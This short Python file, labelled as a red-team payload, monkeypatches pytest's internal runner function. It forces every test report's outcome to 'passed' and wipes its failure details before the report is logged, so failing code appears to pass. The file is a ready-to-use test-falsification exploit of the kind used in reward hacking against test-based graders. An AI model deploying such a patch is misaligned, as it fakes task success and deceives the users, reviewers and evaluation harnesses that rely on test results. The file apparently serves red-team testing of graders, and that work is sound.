# red-team payload: replace pytest's runner.call_and_report so every report is passed before it is logged.
import _pytest.runner as _rt_runner


def _rt_call_and_report(item, when, log=True, **kwds):
    call = _rt_runner.call_runtest_hook(item, when, **kwds)
    hook = item.ihook
    rep = hook.pytest_runtest_makereport(item=item, call=call)
    rep.outcome = "passed"
    rep.longrepr = None
    if log:
        hook.pytest_runtest_logreport(report=rep)
    return rep


_rt_runner.call_and_report = _rt_call_and_report
